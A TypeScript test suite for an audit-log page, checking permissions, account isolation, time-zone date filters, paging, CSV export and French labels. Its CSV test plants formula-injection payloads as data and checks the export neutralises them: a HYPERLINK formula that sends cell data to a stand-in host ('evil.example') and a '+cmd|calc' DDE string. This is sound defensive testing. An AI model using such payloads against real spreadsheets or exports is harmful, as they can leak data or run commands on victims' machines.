import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { and, eq } from 'drizzle-orm';
import { auditLog } from '../db/schema/audit.ts';
import type { Profile } from '../db/schema/users.ts';
import { SECOND_MS } from '../lib/clock.ts';
import { zonedDayRange } from '../lib/time.ts';
import { logIn, TestBrowser } from '../test/browser.ts';
import type { TestUser } from '../test/harness.ts';
import { createAccount, createHarness, createUser } from '../test/harness.ts';
import type { AuditEvent } from './service.ts';
import { recordAudit } from './service.ts';

const h = await createHarness();
/** When the tests sign in and read: after every entry they write, within the password's 90 days. */
const NOW = new Date('2026-04-01T10:00:00Z');

/** Writes entries of an account at given moments (the clock is put back to NOW afterwards). */
async function write(user: TestUser, entries: (Partial<AuditEvent> & { at: Date })[]) {
  for (const { at, ...event } of entries) {
    h.clock.set(at);
    await recordAudit(
      { db: h.db, clock: h.clock },
      {
        accountId: user.accountId,
        userId: user.id,
        actor: user.userid,
        eventType: 'test.event',
        success: true,
        ...event,
      },
    );
  }
  h.clock.set(NOW);
}

/** `count` entries numbered n = 0…count-1 in details, a second apart every `tie` entries (so several share a time). */
async function writeNumbered(user: TestUser, eventType: string, count: number, tie: number) {
  const start = new Date('2026-03-10T08:00:00Z').getTime();
  await write(
    user,
    Array.from({ length: count }, (_, n) => ({
      at: new Date(start + Math.floor(n / tie) * SECOND_MS),
      eventType,
      details: { n },
    })),
  );
}

async function signedIn(user: TestUser) {
  h.clock.set(NOW);
  const browser = new TestBrowser(h.app);
  await logIn(browser, user);
  return browser;
}

async function adminWithBrowser() {
  const admin = await createAccount(h.db);
  return { admin, browser: await signedIn(admin) };
}

function decode(text: string): string {
  return text
    .replace(/<[^>]+>/g, ' ')
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ')
    .trim();
}

/** The table's rows as cell texts. */
function tableRows(html: string): string[][] {
  const body = /<tbody>([\s\S]*?)<\/tbody>/.exec(html)?.[1] ?? '';
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((row) =>
    [...(row[1] ?? '').matchAll(/<td>([\s\S]*?)<\/td>/g)].map((cell) => decode(cell[1] ?? '')),
  );
}

/** The n of each row of numbered entries, in the order shown. */
function numbers(html: string): number[] {
  return tableRows(html).map((cells) => Number(/\bn: (\d+)/.exec(cells[6] ?? '')?.[1]));
}

function linkHref(html: string, text: string): string | undefined {
  const href = new RegExp(`<a href="([^"]+)"[^>]*>${text}</a>`).exec(html)?.[1];
  return href?.replace(/&amp;/g, '&');
}

/** A small RFC 4180 reader for the downloads. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += ch;
  }
  if (field || record.length) records.push([...record, field]);
  return records;
}

async function download(browser: TestBrowser, path: string) {
  const response = await browser.send(path, { method: 'GET' });
  const bytes = new Uint8Array(await response.arrayBuffer());
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  return {
    response,
    bom: bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf,
    text: text.replace(/^\uFEFF/, ''),
    rows: parseCsv(text.replace(/^\uFEFF/, '')),
  };
}

describe('who may read the audit log', () => {
  for (const profile of ['viewer', 'encoder', 'super_encoder'] as Profile[]) {
    test(`${profile}: no menu link, 403 on the page and the download`, async () => {
      const admin = await createAccount(h.db);
      const user = await createUser(h.db, admin.accountId, admin.pspid, { userid: `u-${profile}`, profile });
      const browser = await signedIn(user);
      await browser.get('/test/home');
      assert.doesNotMatch(browser.lastBody, /Audit log/);
      assert.equal((await browser.get('/test/audit')).status, 403);
      assert.match(browser.lastBody, /<h1>Not allowed<\/h1>/);
      assert.equal((await browser.get('/test/audit/download.csv')).status, 403);
    });
  }

  for (const profile of ['admin', 'admin_no_user_manager'] as Profile[]) {
    test(`${profile}: reaches the page from the menu`, async () => {
      const admin = await createAccount(h.db);
      const user = await createUser(h.db, admin.accountId, admin.pspid, { userid: profile.slice(0, 12), profile });
      const browser = await signedIn(user);
      await browser.get('/test/home');
      assert.match(browser.lastBody, /<a href="\/test\/audit">Audit log<\/a>/);
      const response = await browser.get('/test/audit');
      assert.equal(response.status, 200);
      assert.match(browser.lastBody, /<h1>Audit log<\/h1>/);
      assert.match(browser.lastBody, /<a href="\/test\/audit" aria-current="page">Audit log<\/a>/);
      assert.match(response.headers.get('Vary') ?? '', /HX-Request/);
      assert.equal(response.headers.get('Cache-Control'), 'no-store');
    });
  }

  test('without a session, the page sends to the login and comes back', async () => {
    const response = await new TestBrowser(h.app).get('/test/audit?event=login');
    assert.equal(response.status, 303);
    assert.equal(response.headers.get('Location'), `/test/login?next=${encodeURIComponent('/test/audit?event=login')}`);
  });
});

describe('the entries shown', () => {
  test('newest first, with the time in the user’s zone, the USERID, a label, the result, the IP, the object and compact details', async () => {
    const { admin, browser } = await adminWithBrowser();
    const alice = await createUser(h.db, admin.accountId, admin.pspid, { userid: 'alice' });
    await write(admin, [
      {
        at: new Date('2026-03-20T12:00:00Z'),
        eventType: 'user.update',
        ip: '192.0.2.7',
        object: `user:${alice.id}`,
        details: { changes: { profile: { before: 'viewer', after: 'encoder' } } },
      },
      {
        at: new Date('2026-03-21T12:00:00Z'),
        eventType: 'password.change',
        success: false,
        ip: '198.51.100.4',
        object: `user:${admin.id}`,
        details: { forced: false, problems: ['too_short', 'needs_digit'] },
      },
      { at: new Date('2026-03-22T12:00:00Z'), eventType: 'custom.future_event', details: {} },
    ]);
    await browser.get('/test/audit?from=2026-03-20&to=2026-03-22');
    assert.deepEqual(tableRows(browser.lastBody), [
      ['22/03/2026 13:00 CET', admin.userid, 'custom.future_event', 'Success', '—', '—', '—'],
      [
        '21/03/2026 13:00 CET',
        admin.userid,
        'Password change',
        'Failure',
        '198.51.100.4',
        `User ${admin.userid}`,
        'forced: false problems: too_short, needs_digit',
      ],
      // jsonb keeps keys in its own order (shorter first).
      [
        '20/03/2026 13:00 CET',
        admin.userid,
        'User changed',
        'Success',
        '192.0.2.7',
        'User alice',
        'changes.profile.after: encoder changes.profile.before: viewer',
      ],
    ]);
    assert.match(browser.lastBody, /<time datetime="2026-03-21T12:00:00.000Z">21\/03\/2026 13:00 CET<\/time>/);
    assert.match(browser.lastBody, /<caption id="audit-table-caption">Audit log entries, newest first<\/caption>/);
    assert.match(browser.lastBody, /<th scope="col">Origin IP<\/th>/);
    const tbody = /<tbody>[\s\S]*<\/tbody>/.exec(browser.lastBody)?.[0] ?? '';
    assert.doesNotMatch(tbody, /[{}]|&quot;/, 'no JSON blob');
    assert.match(tbody, /<strong>Failure<\/strong>/);
  });

  test('another account’s entries, and entries of no account, never appear; its users are "not found"', async () => {
    const { admin, browser } = await adminWithBrowser();
    const other = await createAccount(h.db);
    await write(other, [{ at: new Date('2026-03-15T10:00:00Z'), eventType: 'secret.event', actor: 'intruder' }]);
    await recordAudit(
      { db: h.db, clock: h.clock },
      {
        accountId: null,
        actor: 'nobody-known',
        eventType: 'login',
        success: false,
        details: { pspid: admin.pspid },
      },
    );
    await write(admin, [{ at: new Date('2026-03-15T10:00:00Z'), eventType: 'mine.event' }]);
    await browser.get('/test/audit');
    assert.match(browser.lastBody, /mine\.event/);
    for (const foreign of ['secret.event', 'intruder', 'nobody-known', other.userid])
      assert.ok(!browser.lastBody.includes(foreign), foreign);
    const csv = await download(browser, '/test/audit/download.csv');
    for (const foreign of ['secret.event', 'intruder', 'nobody-known']) assert.ok(!csv.text.includes(foreign), foreign);
    assert.equal((await browser.get(`/test/audit?user=${other.id}`)).status, 404);
    assert.equal((await browser.get('/test/audit?user=not-a-uuid')).status, 404);
    assert.equal((await browser.get(`/test/audit/download.csv?user=${other.id}`)).status, 404);
  });

  test('nothing matching says so, with no table and no download', async () => {
    const { browser } = await adminWithBrowser();
    const response = await browser.get('/test/audit?event=nothing.here');
    assert.equal(response.status, 200);
    assert.match(browser.lastBody, /No entries match these filters\./);
    assert.doesNotMatch(browser.lastBody, /<table/);
    assert.doesNotMatch(browser.lastBody, /audit\.csv/);
    assert.match(browser.lastBody, /<option value="nothing.here" selected="">nothing.here<\/option>/, 'the filter is kept');
  });
});

describe('filters', () => {
  test('dates are whole days of the user’s zone, across the change to summer time', async () => {
    const { admin, browser } = await adminWithBrowser();
    // Brussels goes from CET (+1) to CEST (+2) on 29 March 2026, a day of 23 hours.
    await write(admin, [
      { at: new Date('2026-03-28T22:30:00Z'), details: { n: 1 } }, // 28/03 23:30 CET, 18:30 in New York
      { at: new Date('2026-03-28T23:30:00Z'), details: { n: 2 } }, // 29/03 00:30 CET, 28/03 19:30 in New York
      { at: new Date('2026-03-29T21:30:00Z'), details: { n: 3 } }, // 29/03 23:30 CEST
      { at: new Date('2026-03-29T22:30:00Z'), details: { n: 4 } }, // 30/03 00:30 CEST (24 hours after 29/03 began would still be 29/03)
    ]);
    await browser.get('/test/audit?from=2026-03-29&to=2026-03-29');
    assert.deepEqual(numbers(browser.lastBody), [3, 2]);
    assert.match(browser.lastBody, /29\/03\/2026 00:30 CET/);
    assert.match(browser.lastBody, /29\/03\/2026 23:30 CEST/);
    await browser.get('/test/audit?from=2026-03-28&to=2026-03-28');
    assert.deepEqual(numbers(browser.lastBody), [1]);
    await browser.get('/test/audit?from=2026-03-30');
    assert.ok(numbers(browser.lastBody).includes(4) && !numbers(browser.lastBody).includes(3));

    const newYork = await createUser(h.db, admin.accountId, admin.pspid, {
      userid: 'ny',
      profile: 'admin',
      timeZone: 'America/New_York',
    });
    const nyBrowser = await signedIn(newYork);
    await nyBrowser.get('/test/audit?from=2026-03-28&to=2026-03-28');
    assert.deepEqual(numbers(nyBrowser.lastBody), [2, 1]);
    // formatDateTime's en-GB names New York's summer offset "GMT-4".
    assert.match(nyBrowser.lastBody, /<time datetime="2026-03-28T23:30:00.000Z">28\/03\/2026 19:30 GMT-4<\/time>/);
    assert.match(nyBrowser.lastBody, /America\/New_York/);
  });

  test('the day bounds helper follows the zone’s rules', () => {
    assert.deepEqual(zonedDayRange('2026-03-29', '2026-03-29', 'Europe/Brussels'), {
      start: new Date('2026-03-28T23:00:00Z'),
      end: new Date('2026-03-29T22:00:00Z'),
    });
    assert.deepEqual(zonedDayRange('2026-10-25', '2026-10-25', 'Europe/Brussels'), {
      start: new Date('2026-10-24T22:00:00Z'),
      end: new Date('2026-10-25T23:00:00Z'),
    });
    assert.deepEqual(zonedDayRange(undefined, '2026-03-28', 'America/New_York'), { end: new Date('2026-03-29T04:00:00Z') });
  });

  test('by user, by event and by result, alone and together; the choices list this account’s users and events', async () => {
    const { admin, browser } = await adminWithBrowser();
    const alice = await createUser(h.db, admin.accountId, admin.pspid, { userid: 'alice' });
    const bob = await createUser(h.db, admin.accountId, admin.pspid, { userid: 'bob' });
    const day = (hour: number) => new Date(`2026-03-12T${String(hour).padStart(2, '0')}:00:00Z`);
    await write(alice, [
      { at: day(8), eventType: 'login', details: { n: 1 } },
      { at: day(9), eventType: 'login', success: false, details: { n: 2 } },
    ]);
    await write(bob, [
      { at: day(10), eventType: 'password.change', details: { n: 3 } },
      { at: day(11), eventType: 'otp.enable', success: false, details: { n: 4 } },
    ]);
    const list = async (query: string) => {
      const response = await browser.get(`/test/audit?from=2026-03-12&to=2026-03-12&${query}`);
      assert.equal(response.status, 200, query);
      return numbers(browser.lastBody);
    };
    assert.deepEqual(await list(''), [4, 3, 2, 1]);
    assert.deepEqual(await list(`user=${alice.id}`), [2, 1]);
    assert.deepEqual(await list('event=password.change'), [3]);
    assert.deepEqual(await list('result=failure'), [4, 2]);
    assert.deepEqual(await list('result=success'), [3, 1]);
    assert.deepEqual(await list(`user=${bob.id}&result=failure`), [4]);
    assert.deepEqual(await list(`user=${alice.id}&event=login&result=success`), [1]);
    assert.match(browser.lastBody, new RegExp(`<option value="${alice.id}" selected="">alice</option>`));
    assert.match(browser.lastBody, /<option value="login" selected="">Login<\/option>/);
    assert.match(browser.lastBody, /<option value="success" selected="">Success<\/option>/);
    assert.match(browser.lastBody, /<option value="otp.enable">Two-factor authentication turned on<\/option>/);
    assert.doesNotMatch(browser.lastBody, /<option value="logout">/, 'only events present in the log');
    assert.match(browser.lastBody, /<input id="audit-from" name="from" type="text" value="2026-03-12"/);
    const csvHref = linkHref(browser.lastBody, 'Download these entries as CSV');
    assert.equal(csvHref, `/test/audit/download.csv?from=2026-03-12&to=2026-03-12&user=${alice.id}&event=login&result=success`);
  });

  const bad: [string, string, RegExp][] = [
    ['an impossible date', 'from=2026-02-30', /Enter the start date as YYYY-MM-DD/],
    ['a date in another format', 'to=28/03/2026', /Enter the end date as YYYY-MM-DD/],
    [
      'an end before the start',
      'from=2026-03-10&to=2026-03-01',
      /Enter an end date that is the same as the start date or after it/,
    ],
    ['an unknown result', 'result=maybe', /Choose successes and failures, successes only or failures only/],
    ['a malformed event', 'event=%3Cscript%3E', /Choose an event from the list/],
  ];
  for (const [name, query, message] of bad) {
    test(`${name} is refused with 422, beside its field, values kept`, async () => {
      const { browser } = await adminWithBrowser();
      const response = await browser.get(`/test/audit?${query}`);
      assert.equal(response.status, 422);
      assert.match(browser.lastBody, /<title>Error: Audit log/);
      assert.match(browser.lastBody, /<div class="error-summary" role="alert"/);
      const field = /<a href="#(audit-[a-z]+)">/.exec(browser.lastBody)?.[1];
      assert.ok(field, 'the summary links to the field');
      assert.match(
        browser.lastBody,
        new RegExp(`id="${field}"[^>]*aria-invalid="true"[^>]*aria-describedby="[^"]*${field}-error`),
      );
      assert.equal([...browser.lastBody.matchAll(new RegExp(message, 'g'))].length, 2, 'in the summary and beside the field');
      assert.doesNotMatch(browser.lastBody, /<table/, 'nothing listed');
      if (query.startsWith('from=2026-03-10')) assert.match(browser.lastBody, /value="2026-03-10"[\s\S]*value="2026-03-01"/);
      if (query.startsWith('to=28')) assert.match(browser.lastBody, /value="28\/03\/2026"/);
      assert.equal((await browser.get(`/test/audit/download.csv?${query}`)).status, 422, 'the download refuses them too');
    });
  }

  test('a cursor that is not one is a bad request', async () => {
    const { browser } = await adminWithBrowser();
    for (const before of [
      'garbage',
      '2026-03-01T00:00:00Z~abc',
      '2026-02-30T00:00:00Z~1',
      '2026-03-01T00:00:00Z~1~2',
      '2026-03-01~1',
    ]) {
      assert.equal((await browser.get(`/test/audit?before=${encodeURIComponent(before)}`)).status, 400, before);
    }
  });
});

describe('paging by key', () => {
  test('120 entries: pages of 50, 50 and 20, newest first, no duplicate and no gap, filters kept', async () => {
    const { admin, browser } = await adminWithBrowser();
    await writeNumbered(admin, 'test.paging', 120, 3);
    await browser.get('/test/audit?event=test.paging');
    const seen: number[] = [];
    const sizes: number[] = [];
    let older = linkHref(browser.lastBody, 'Older entries');
    assert.equal(linkHref(browser.lastBody, 'Newest entries'), undefined, 'already on the newest');
    seen.push(...numbers(browser.lastBody));
    sizes.push(numbers(browser.lastBody).length);
    while (older) {
      assert.match(older, /^\/test\/audit\?event=test\.paging&before=[^&]+$/);
      const response = await browser.get(older);
      assert.equal(response.status, 200);
      assert.equal(linkHref(browser.lastBody, 'Newest entries'), '/test/audit?event=test.paging');
      assert.match(browser.lastBody, /\(older entries\)<\/caption>/);
      seen.push(...numbers(browser.lastBody));
      sizes.push(numbers(browser.lastBody).length);
      older = linkHref(browser.lastBody, 'Older entries');
    }
    assert.deepEqual(sizes, [50, 50, 20]);
    assert.deepEqual(
      seen,
      Array.from({ length: 120 }, (_, i) => 119 - i),
    );
  });
});

describe('CSV download', () => {
  test('headers, the zone in the header row, every one of 1200 entries in order, in keyset batches', async () => {
    const { admin, browser } = await adminWithBrowser();
    await writeNumbered(admin, 'test.csv', 1200, 7);
    await browser.get('/test/audit?event=test.csv');
    const href = linkHref(browser.lastBody, 'Download these entries as CSV');
    assert.equal(href, '/test/audit/download.csv?event=test.csv');
    const { response, bom, rows } = await download(browser, href);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('Content-Type'), 'text/csv; charset=utf-8');
    assert.equal(response.headers.get('Content-Disposition'), `attachment; filename="audit-${admin.pspid}-20260401.csv"`);
    assert.equal(response.headers.get('Cache-Control'), 'no-store');
    assert.ok(bom, 'a byte order mark for spreadsheets');
    assert.deepEqual(rows[0], [
      'Time (Europe/Brussels)',
      'USERID',
      'Event',
      'Event type',
      'Result',
      'Origin IP',
      'Object',
      'Details',
    ]);
    assert.equal(rows.length, 1201);
    assert.deepEqual(rows[1], ['2026-03-10 09:02:51 +01:00', admin.userid, 'test.csv', 'test.csv', 'Success', '', '', 'n: 1199']);
    const ns = rows.slice(1).map((row) => Number(row[7]?.replace('n: ', '')));
    assert.deepEqual(
      ns,
      Array.from({ length: 1200 }, (_, i) => 1199 - i),
    );
  });

  test('cells that a spreadsheet would run as formulas come out guarded', async () => {
    const { admin, browser } = await adminWithBrowser();
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    await write(admin, [
      {
        at: new Date('2026-03-05T10:00:00Z'),
        eventType: 'login',
        actor: formula,
        ip: '@SUM(1+1)',
        object: '+cmd|calc',
        details: { [formula]: 'x' },
      },
      { at: new Date('2026-03-05T11:00:00Z'), eventType: '-2+3', details: {} },
    ]);
    const { rows } = await download(browser, '/test/audit/download.csv?from=2026-03-05&to=2026-03-05');
    assert.equal(rows.length, 3);
    const [, second, first] = rows;
    assert.equal(first?.[1], `'${formula}`);
    assert.equal(first?.[5], "'@SUM(1+1)");
    assert.equal(first?.[6], "'+cmd|calc");
    assert.equal(first?.[7], `'${formula}: x`);
    assert.equal(second?.[2], "'-2+3");
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
  });

  test('reading is audited: each page view and each download, with the filters, the actor and the account', async () => {
    const { admin, browser } = await adminWithBrowser();
    await browser.get('/test/audit?from=2026-03-01&to=2026-03-31&event=login&result=failure');
    await download(browser, `/test/audit/download.csv?user=${admin.id}`);
    const entries = await h.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.accountId, admin.accountId), eq(auditLog.actor, admin.userid)));
    const view = entries.find((entry) => entry.eventType === 'audit.view');
    const downloadEntry = entries.find((entry) => entry.eventType === 'audit.download');
    assert.ok(view && downloadEntry);
    for (const entry of [view, downloadEntry]) {
      assert.equal(entry.userId, admin.id);
      assert.equal(entry.object, `account:${admin.accountId}`);
      assert.equal(entry.success, true);
    }
    assert.deepEqual(view.details, {
      from: '2026-03-01',
      to: '2026-03-31',
      timeZone: 'Europe/Brussels',
      event: 'login',
      result: 'failure',
    });
    assert.deepEqual(downloadEntry.details, { user: admin.userid });
    await browser.get('/test/audit?event=audit.download');
    assert.deepEqual(
      tableRows(browser.lastBody).map((cells) => [cells[2], cells[5], cells[6]]),
      [['Audit log downloaded', `Account ${admin.pspid}`, `user: ${admin.userid}`]],
    );
  });
});

describe('in French', () => {
  test('the page, its labels and the download speak French', async () => {
    const admin = await createAccount(h.db);
    const marie = await createUser(h.db, admin.accountId, admin.pspid, { userid: 'marie', profile: 'admin', language: 'fr' });
    const browser = await signedIn(marie);
    await browser.get('/test/audit?event=login');
    assert.match(browser.lastBody, /<h1>Journal d’audit<\/h1>/);
    assert.match(browser.lastBody, /<th scope="col">Événement<\/th>/);
    assert.deepEqual(
      tableRows(browser.lastBody).map((cells) => [cells[2], cells[3]]),
      [['Connexion', 'Réussite']],
    );
    assert.match(browser.lastBody, /Télécharger ces entrées en CSV/);
    const response = await browser.get('/test/audit?from=2026-13-01');
    assert.equal(response.status, 422);
    assert.match(browser.lastBody, /<title>Erreur : Journal d’audit/);
    assert.match(browser.lastBody, /Saisissez la date de début au format AAAA-MM-JJ/);
    const { rows } = await download(browser, '/test/audit/download.csv?event=login');
    assert.deepEqual(rows[0], [
      'Heure (Europe/Brussels)',
      'USERID',
      'Événement',
      'Type d’événement',
      'Résultat',
      'IP d’origine',
      'Objet',
      'Détails',
    ]);
    assert.equal(rows[1]?.[2], 'Connexion');
    assert.equal(rows[1]?.[4], 'Réussite');
  });
});
